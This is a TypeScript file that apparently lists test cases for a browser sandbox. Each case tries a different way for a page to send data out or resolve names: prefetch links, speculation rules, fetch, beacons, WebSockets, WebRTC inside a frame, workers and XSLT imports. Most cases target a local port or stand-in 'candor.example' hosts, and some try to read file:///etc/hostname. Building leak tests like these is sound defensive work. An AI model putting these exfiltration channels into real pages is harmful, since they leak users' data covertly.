import type { Attack } from './attack.ts';

/** Requests of every kind, and names that are looked up ahead of them. */
export const requestAttacks: readonly Attack[] = [
  {
    name: 'dns-prefetch of a name',
    run: () => {
      add('link', { rel: 'dns-prefetch', href: '//what-the-page-knows.prefetch.candor.example' });
      return inASecond();
    },
  },
  {
    name: 'links to names',
    run: () => {
      add('a', { href: 'https://what-the-page-knows.link.candor.example/' }).textContent = 'link';
      add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' });
      return inASecond();
    },
  },
  {
    name: 'preconnect',
    run: ({ tcp }) => {
      add('link', { rel: 'preconnect', href: `http://127.0.0.1:${tcp}` });
      add('link', { rel: 'preconnect', href: 'https://what-the-page-knows.connect.candor.example' });
      return inASecond();
    },
  },
  {
    name: 'links that load',
    seen: 'tcp',
    run: ({ tcp }) => {
      for (const rel of ['prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest']) {
        add('link', { rel, as: 'script', href: `http://127.0.0.1:${tcp}/${rel}` });
      }
      return inASecond();
    },
  },
  {
    name: 'speculation rules',
    seen: 'tcp',
    run: ({ tcp }) => {
      const urls = [`http://127.0.0.1:${tcp}/speculation`, 'https://what-the-page-knows.rules.candor.example/'];
      const source = { source: 'list', urls, eagerness: 'immediate' };
      add('script', { type: 'speculationrules' }).textContent = JSON.stringify({
        prefetch: [source],
        prerender: [source],
      });
      return inASecond();
    },
  },
  { name: 'fetch', seen: 'tcp', run: ({ tcp }) => fetch(`http://127.0.0.1:${tcp}/fetch`, { mode: 'no-cors' }) },
  {
    name: 'fetch that outlives the page',
    seen: 'tcp',
    run: ({ tcp }) =>
      fetch(`http://127.0.0.1:${tcp}/`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'what it knows' }),
  },
  { name: 'fetch of a file', run: () => fetch('file:///etc/hostname').then((answer) => answer.text()) },
  {
    name: 'fetch of a name',
    seen: 'name',
    run: () => fetch('https://what-the-page-knows.fetch.candor.example/', { mode: 'no-cors' }),
  },
  {
    name: 'XMLHttpRequest',
    seen: 'tcp',
    run: ({ tcp }) => {
      const request = new XMLHttpRequest();
      request.open('GET', `http://127.0.0.1:${tcp}/xhr`);
      request.send();
      return inASecond();
    },
  },
  {
    name: 'WebSocket',
    seen: 'tcp',
    run: ({ tcp }) => {
      new WebSocket(`ws://127.0.0.1:${tcp}/`);
      return inASecond();
    },
  },
  {
    name: 'EventSource',
    seen: 'tcp',
    run: ({ tcp }) => {
      new EventSource(`http://127.0.0.1:${tcp}/events`);
      return inASecond();
    },
  },
  {
    name: 'a beacon',
    seen: 'tcp',
    run: ({ tcp }) => {
      navigator.sendBeacon(`http://127.0.0.1:${tcp}/beacon`, 'what the page knows');
      return inASecond();
    },
  },
  {
    name: 'pictures, media and embedded things',
    seen: 'tcp',
    run: ({ tcp }) => {
      for (const tag of ['img', 'video', 'audio', 'embed', 'iframe', 'script', 'track']) {
        add(tag, { src: `http://127.0.0.1:${tcp}/${tag}` });
      }
      add('object', { data: `http://127.0.0.1:${tcp}/object` });
      add('video', { poster: `http://127.0.0.1:${tcp}/poster` });
      return inASecond();
    },
  },
  {
    name: 'styles and fonts',
    seen: 'tcp',
    run: ({ tcp }) => {
      const at = (file: string) => `url(http://127.0.0.1:${tcp}/${file})`;
      const font = `@font-face { font-family: x; src: ${at('font')} }`;
      add('style', {}).textContent =
        `@import ${at('css')}; ${font} body { background: ${at('picture')}; font-family: x }`;
      return inASecond();
    },
  },
  {
    name: 'a frame of its own content, with a connection of its own',
    seen: 'tcp',
    run: ({ tcp }) => {
      const inner = add('iframe', {}) as HTMLIFrameElement;
      const server = { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'u', credential: 'x' };
      const frame = inner.contentWindow as unknown as typeof globalThis;
      const connection = new frame.RTCPeerConnection({ iceServers: [server] });
      connection.createDataChannel('x');
      void connection.setLocalDescription();
      frame.fetch(`http://127.0.0.1:${tcp}/frame`).catch(() => {});
      return inASecond();
    },
  },
  {
    name: 'frames of data: and file:',
    seen: 'tcp',
    run: ({ tcp }) => {
      add('iframe', { src: `data:text/html,<img src=http://127.0.0.1:${tcp}/data>` });
      add('iframe', { src: 'file:///etc/hostname' });
      return inASecond();
    },
  },
  {
    name: 'workers',
    seen: 'tcp',
    run: ({ tcp }) => {
      const script = `fetch('http://127.0.0.1:${tcp}/worker'); new WebSocket('ws://127.0.0.1:${tcp}/worker')`;
      const address = URL.createObjectURL(new Blob([script]));
      new Worker(address);
      new SharedWorker(address);
      return inASecond();
    },
  },
  { name: 'a service worker', run: () => navigator.serviceWorker.register('/worker.js') },
  {
    name: 'a style sheet of XML that imports',
    run: ({ tcp }) => {
      const parse = (text: string) => new DOMParser().parseFromString(text, 'text/xml');
      const processor = new XSLTProcessor();
      const address = `http://127.0.0.1:${tcp}/xsl`;
      const space = 'http://www.w3.org/1999/XSL/Transform';
      processor.importStylesheet(
        parse(`<x:stylesheet version="1.0" xmlns:x="${space}"><x:import href="${address}"/></x:stylesheet>`),
      );
      processor.transformToDocument(parse('<x/>'));
      return inASecond();
    },
  },
];
